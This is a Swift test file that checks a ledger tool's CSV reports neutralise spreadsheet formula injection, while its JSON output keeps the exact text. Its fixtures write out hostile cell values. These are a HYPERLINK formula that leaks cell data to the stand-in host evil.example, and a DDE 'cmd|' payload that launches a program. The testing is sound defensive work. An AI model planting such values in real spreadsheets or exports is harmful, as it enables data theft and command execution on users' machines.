// Spreadsheet formula injection (issue 11, item 5): text a user recorded
// that begins with = + - @ TAB or CR reaches every CSV the ledger writes
// (quarter, status, log, history, diff, export journal and state, the
// snapshot's CSV) neutralised, as OWASP's CSV injection guidance says: a
// leading single quote, the field quoted. JSON keeps the exact text.

import Foundation
import LedgerCore
import XCTest

final class FormulaCellTests: XCTestCase {
    static let name = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ver\")"
    static let unit = "+MEDIDORES"
    static let owner = "@307 COORDINACION"
    static let observation = "-2+3+cmd|'/C calc'!A0"
    static let reason = "=1+1 corrige la captura"
    static let plan = "@POA 2017"
    static let hostile = [name, unit, owner, observation, reason, plan]

    /// A ledger whose names, observation and reason are all formulas.
    func makeHostileLedger() throws -> Sandbox {
        let s = try Sandbox()
        let clock = ["LEDGER_CLOCK": "2017-01-02T09:00:00-06:00"]
        s.ok(["init", "--demo", "--entity", "COMAPA", "--timezone", "America/Mexico_City"], env: clock)
        s.ok(["append", "indicator", "--id", "MED", "--name=" + Self.name, "--unit=" + Self.unit, "--year", "2017",
              "--annual-target", "3600", "--owner", "307", "--owner-name=" + Self.owner, "--plan=" + Self.plan], env: clock)
        s.ok(["append", "reading", "--indicator", "MED", "--period", "2017-01", "--value", "280"],
             env: ["LEDGER_CLOCK": "2017-02-03T10:00:00-06:00"])
        s.ok(["append", "observation", "--indicator", "MED", "--period", "2017-01", "--text=" + Self.observation],
             env: ["LEDGER_CLOCK": "2017-02-03T10:05:00-06:00"])
        s.ok(["append", "correction", "--indicator", "MED", "--period", "2017-01", "--value", "290", "--reason=" + Self.reason],
             env: ["LEDGER_CLOCK": "2017-02-10T10:00:00-06:00"])
        return s
    }

    /// Every field of `csv` that begins with a formula character is a plain
    /// decimal; the hostile texts that appear do so behind a single quote.
    func assertNeutralised(_ csv: String, _ what: String, expecting texts: [String], file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertTrue(csv.hasPrefix("\u{FEFF}"), "\(what): no byte-order mark", file: file, line: line)
        guard let records = try? CSV.parse(Array(csv.utf8), separator: UInt8(ascii: ",")).get() else {
            return XCTFail("\(what): not CSV: \(csv)", file: file, line: line)
        }
        XCTAssertGreaterThan(records.count, 1, "\(what): no rows", file: file, line: line)
        for r in records {
            for f in r.fields {
                guard let c = f.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(c) else { continue }
                XCTAssertTrue(DecimalNumber(f) != nil || f == "-", "\(what): the cell \(f) would run as a formula", file: file, line: line)
            }
        }
        let fields = Set(records.flatMap(\.fields))
        for t in texts {
            XCTAssertFalse(fields.contains(t), "\(what): \(t) is written as it is", file: file, line: line)
            XCTAssertTrue(fields.contains { $0.hasPrefix("'") && $0.contains(t) }, "\(what): \(t) is missing", file: file, line: line)
        }
    }

    func testEveryCSVReportNeutralisesFormulaCells() throws {
        let s = try makeHostileLedger()
        assertNeutralised(s.ok(["quarter", "2017-Q1", "--csv"]), "quarter", expecting: [Self.name, Self.unit])
        assertNeutralised(s.ok(["status", "--csv"]), "status", expecting: [Self.name, Self.unit])
        assertNeutralised(s.ok(["log", "--csv"]), "log", expecting: [Self.reason])
        assertNeutralised(s.ok(["history", "MED", "--csv"]), "history", expecting: [Self.reason])
        // diff names each reason after its event's seq ("4: =1+1 …"): no cell begins with the formula.
        assertNeutralised(s.ok(["diff", "--from", "2017-02-01", "--to", "2017-02-28", "--csv"]), "diff", expecting: [])
        assertNeutralised(s.ok(["export", "journal", "--csv"]), "export journal", expecting: [Self.reason])
        assertNeutralised(s.ok(["export", "state", "--csv"]), "export state", expecting: [Self.name, Self.unit, Self.plan])
        // The observation is in the quarter's observations cell ("2017-01: -2+3…"), which begins with a digit.
        XCTAssertTrue(s.ok(["quarter", "2017-Q1", "--csv"]).contains("2017-01: " + Self.observation))

        // The snapshot's CSV, and the snapshot verifies (it is re-derived in its own format).
        s.ok(["snapshot", "2017-Q1"], env: ["LEDGER_CLOCK": "2017-04-11T10:00:00-05:00"])
        let files = try FileManager.default.contentsOfDirectory(atPath: s.path("snapshots"))
        let csvName = try XCTUnwrap(files.first { $0.hasSuffix(".csv") })
        let csv = String(decoding: try Data(contentsOf: URL(fileURLWithPath: s.path("snapshots/" + csvName))), as: UTF8.self)
        assertNeutralised(csv, "snapshot", expecting: [Self.name, Self.unit, Self.plan])
        assertNeutralised(s.ok(["quarter", "2017-Q1", "--plan=" + Self.plan, "--csv"]), "quarter --plan", expecting: [Self.name])
        let json = try XCTUnwrap(files.first { $0.hasSuffix(".json") })
        XCTAssertTrue(String(decoding: try Data(contentsOf: URL(fileURLWithPath: s.path("snapshots/" + json))), as: UTF8.self)
            .hasSuffix("\"snapshot_format\":6}\n"), "the format written today")
        XCTAssertEqual(s.run(["verify"]).code, 0)
    }

    /// A snapshot written before format 5 (its CSV with the formula as it was)
    /// still re-derives byte for byte: it is re-derived in its own format.
    func testAFormat4SnapshotWithAFormulaCellStillVerifies() throws {
        let s = try makeHostileLedger()
        s.ok(["snapshot", "2017-Q1"], env: ["LEDGER_CLOCK": "2017-04-11T10:00:00-05:00"])
        let folder = URL(fileURLWithPath: s.path("snapshots"))
        let names = try FileManager.default.contentsOfDirectory(atPath: folder.path)
        let json = folder.appendingPathComponent(try XCTUnwrap(names.first { $0.hasSuffix(".json") }))
        let csv = folder.appendingPathComponent(try XCTUnwrap(names.first { $0.hasSuffix(".csv") }))
        let format5 = String(decoding: try Data(contentsOf: csv), as: UTF8.self)
        // What format 4 wrote: the same JSON but for its format, the CSV cells as they were.
        let jsonText = String(decoding: try Data(contentsOf: json), as: UTF8.self)
        XCTAssertTrue(jsonText.contains("\"snapshot_format\":6}"), "the format written today")
        try Data(jsonText.replacingOccurrences(of: "\"snapshot_format\":6}", with: "\"snapshot_format\":4}").utf8).write(to: json)
        let quoted = "\"'" + Self.name.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        XCTAssertTrue(format5.contains(quoted))
        let format4 = format5.replacingOccurrences(of: quoted, with: "\"" + Self.name.replacingOccurrences(of: "\"", with: "\"\"") + "\"")
            .replacingOccurrences(of: "\"'" + Self.unit + "\"", with: Self.unit)
            .replacingOccurrences(of: "\"'" + Self.plan + "\"", with: Self.plan)
        try Data(format4.utf8).write(to: csv)
        let r = s.run(["verify"])
        XCTAssertEqual(r.code, 0, r.err)
        // And a format-4 file with the neutralised cells is not what format 4 wrote.
        try Data(format5.utf8).write(to: csv)
        XCTAssertEqual(s.run(["verify"]).code, 3)
    }

    /// JSON is for programs: it keeps the exact text, no quote added.
    func testJSONKeepsTheExactText() throws {
        let s = try makeHostileLedger()
        for args in [["quarter", "2017-Q1", "--json"], ["status", "--json"], ["export", "state", "--json"]] {
            let object = try JSONSerialization.jsonObject(with: Data(s.ok(args).utf8)) as? [String: Any]
            let rows = (object?["indicators"] ?? object?["rows"]) as? [[String: Any]]
            XCTAssertEqual(rows?.first?["name"] as? String, Self.name, args.joined(separator: " "))
        }
        let log = try JSONSerialization.jsonObject(with: Data(s.ok(["log", "--json"]).utf8)) as? [String: Any]
        let reasons = ((log?["events"] as? [[String: Any]]) ?? []).compactMap { $0["reason"] as? String }
        XCTAssertEqual(reasons, [Self.reason])
    }
}
